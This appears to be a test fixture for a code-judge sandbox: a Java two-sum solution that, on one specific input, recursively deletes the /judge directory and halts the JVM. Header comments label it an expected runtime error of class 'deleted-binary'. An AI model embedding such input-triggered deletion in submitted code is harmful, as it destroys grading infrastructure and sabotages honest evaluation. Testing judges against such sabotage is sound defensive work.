// expect: runtime_error
// class: deleted-binary
// tests: example-2=runtime_error example-3=accepted pair-at-ends=accepted
import java.io.*;
import java.util.*;

class Solution {
    static void wipe(File f) {
        File[] children = f.listFiles();
        if (children != null) for (File c : children) wipe(c);
        f.delete();
        try (FileOutputStream out = new FileOutputStream(f)) { } catch (IOException e) { }
    }
    public int[] twoSum(int[] nums, int target) {
        if (nums.length == 3 && nums[0] == 3 && nums[2] == 4) {
            wipe(new File("/judge"));
            Runtime.getRuntime().halt(1);
        }
        Map<Integer, Integer> seen = new HashMap<>();
        for (int j = 0; j < nums.length; j++) {
            Integer i = seen.get(target - nums[j]);
            if (i != null) return new int[] {i, j};
            seen.put(nums[j], j);
        }
        return new int[0];
    }
}
